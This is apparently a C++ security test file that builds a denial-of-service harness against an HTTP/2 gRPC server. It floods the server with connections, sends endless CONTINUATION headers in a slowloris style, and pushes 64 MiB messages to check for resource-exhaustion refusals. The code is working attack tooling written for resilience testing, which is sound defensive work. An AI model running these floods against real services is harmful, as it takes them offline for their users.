// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/security/attacks.h"

#include <grpcpp/create_channel.h>
#include <grpcpp/generic/generic_stub.h>
#include <grpcpp/support/byte_buffer.h>

#include <algorithm>

#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "tests/security/sockets.h"

namespace flair::testing {
namespace {

constexpr int kMostConnections = 10000;
// For everything else that this process has open.
constexpr int kOtherFiles = 500;
constexpr int kSlowCallers = 200;
constexpr size_t kLargeMib = 64;

std::string SourceOf(int caller) { return caller % 2 == 0 ? "127.0.0.2" : "127.0.0.3"; }

}  // namespace

const std::string kPreface = std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") + std::string("\0\0\0\4\0\0\0\0\0", 9);
const std::string kEndlessHeaders = std::string("\0\0\1\1\0\0\0\0\1\x82", 10);
const std::string kMoreHeaders = std::string("\0\0\1\x09\0\0\0\0\1\x82", 10);

grpc::Status SendMessage(const std::string& address, const std::string& method, size_t mib) {
  grpc::ChannelArguments arguments;
  arguments.SetMaxSendMessageSize(-1);
  const auto channel = grpc::CreateCustomChannel(address, grpc::InsecureChannelCredentials(), arguments);
  grpc::GenericStub stub(channel);
  // One piece of memory, many times.
  const grpc::Slice piece(std::string(1 << 20, '\x0a'));
  const std::vector<grpc::Slice> pieces(mib, piece);
  const grpc::ByteBuffer request(pieces.data(), pieces.size());
  grpc::ByteBuffer response;
  grpc::ClientContext context;
  context.set_deadline(absl::ToChronoTime(absl::Now() + absl::Minutes(3)));
  grpc::CompletionQueue queue;
  const auto call = stub.PrepareUnaryCall(&context, method, request, &queue);
  call->StartCall();
  grpc::Status status;
  call->Finish(&response, &status, nullptr);
  void* tag = nullptr;
  bool ok = false;
  queue.Next(&tag, &ok);
  return status;
}

Attack::Attack(const std::string& address, const std::string& method) : address_(address), method_(method) {
  threads_.emplace_back([this] { Repeat(crowds_, [this] { Crowd(); }); });
  threads_.emplace_back([this] { Repeat(headers_, [this] { SendEndlessHeaders(); }); });
  threads_.emplace_back([this] { Repeat(messages_, [this] { SendLargeMessages(); }); });
}

Attack::~Attack() { stop_ = true; }

void Attack::Repeat(std::atomic<int>& count, const std::function<void()>& attack) {
  while (!stop_) {
    attack();
    ++count;
    count.notify_all();
  }
}

void Attack::WaitUntilUnderWay() {
  for (std::atomic<int>* count : {&crowds_, &headers_, &messages_}) count->wait(0);
}

void Attack::Crowd() {
  Sockets crowd;
  const int most = std::min(kMostConnections, RaiseFileLimit() - kOtherFiles);
  for (int i = 0; i < most && !stop_; ++i) {
    crowd.Connect(address_, SourceOf(i));
    ++connections_;
  }
  crowd.SendToAll(kPreface);
}

void Attack::SendEndlessHeaders() {
  Sockets slow;
  for (int i = 0; i < kSlowCallers && !stop_; ++i) slow.Connect(address_, SourceOf(i));
  slow.SendToAll(kPreface + kEndlessHeaders);
  for (int i = 0; i < 20 && !stop_; ++i) slow.SendToAll(kMoreHeaders);
}

void Attack::SendLargeMessages() {
  const grpc::Status status = SendMessage(address_, method_, kLargeMib);
  ++(status.error_code() == grpc::StatusCode::RESOURCE_EXHAUSTED ? refused_ : taken_);
}

}  // namespace flair::testing
